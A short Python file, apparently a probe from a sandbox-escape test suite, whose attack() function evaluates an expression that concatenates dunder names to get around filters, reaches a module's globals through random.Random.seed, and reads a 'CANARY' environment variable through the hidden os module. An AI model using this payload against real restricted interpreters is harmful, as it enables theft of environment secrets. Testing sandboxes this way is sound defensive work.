"""P1: operator.methodcaller with a computed name."""


def attack(door):
    door.run("import operator, random")
    door.value(
        "operator.methodcaller('__get' + 'attribute__', '__glo' + 'bals__')(random.Random.seed)['_os'].environ['CANARY']"
    )
